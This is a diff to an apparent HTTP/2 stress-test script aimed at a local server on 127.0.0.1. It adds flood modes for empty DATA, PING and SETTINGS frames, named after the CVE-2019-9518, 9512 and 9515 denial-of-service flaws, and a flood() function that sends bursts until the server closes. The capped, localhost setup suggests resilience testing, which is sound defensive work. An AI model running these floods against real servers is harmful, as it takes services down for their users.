@@ -9,6 +9,11 @@ MODE is one of
   continuation-empty  the same with empty CONTINUATION frames
   rapid-reset         streams opened (HEADERS) and reset (RST_STREAM CANCEL) at once,
                       PAIRS at a time, until the server closes
+  empty-data          a request whose body never ends: empty DATA frames without END_STREAM
+                      (CVE-2019-9518), BURST at a time, until the server closes
+  ping                PING frames, BURST at a time, never reading the PING ACKs (CVE-2019-9512)
+  settings            empty SETTINGS frames, BURST at a time, never reading the ACKs
+                      (CVE-2019-9515)
 
 CONNECTIONS attack connections are made, PARALLEL at a time, each to 127.0.0.1:PORT.
 Each one sends at most MAX_FRAMES frames (a rapid-reset burst counts as one) or for
@@ -29,12 +34,21 @@ import h2.connection
 import h2.errors
 import h2.events
 import hpack
-from hyperframe.frame import ContinuationFrame, Frame, GoAwayFrame, HeadersFrame
+from hyperframe.frame import (
+    ContinuationFrame,
+    DataFrame,
+    Frame,
+    GoAwayFrame,
+    HeadersFrame,
+    PingFrame,
+    SettingsFrame,
+)
 
 MAX_FRAMES = 20_000
 MAX_SECONDS = 10.0
 CHUNK = 16_384
 PAIRS = 200
+BURST = 100
 
 
 def connect(port):
@@ -146,6 +160,29 @@ def rapid_reset(port):
     return finish(sock, watch, sent)
 
 
+def flood(port, mode):
+    """Empty DATA frames on an open request stream, or PINGs, or empty SETTINGS: BURST frames
+    per write (each write counts as one frame towards MAX_FRAMES)."""
+    sock, _ = connect(port)
+    watch = Watch(sock)
+    if mode == "empty-data":
+        request = hpack.Encoder().encode(REQUEST, huffman=False)
+        sock.sendall(HeadersFrame(1, data=request, flags=["END_HEADERS"]).serialize())
+        one = DataFrame(1, data=b"").serialize()
+    elif mode == "ping":
+        one = PingFrame(0, opaque_data=b"12345678").serialize()
+    else:
+        one = SettingsFrame(0).serialize()
+    burst = one * BURST
+
+    def frames():
+        while True:
+            yield burst
+
+    sent = send_frames(sock, watch, frames()) * BURST
+    return finish(sock, watch, sent)
+
+
 def finish(sock, watch, sent):
     """Waits (a little) for the server to close; the connection's outcome."""
     deadline = time.monotonic() + 5.0
@@ -161,6 +198,9 @@ def main():
         "continuation": lambda: continuation(port, empty=False),
         "continuation-empty": lambda: continuation(port, empty=True),
         "rapid-reset": lambda: rapid_reset(port),
+        "empty-data": lambda: flood(port, "empty-data"),
+        "ping": lambda: flood(port, "ping"),
+        "settings": lambda: flood(port, "settings"),
     }[mode]
     outcomes = []
     lock = threading.Lock()
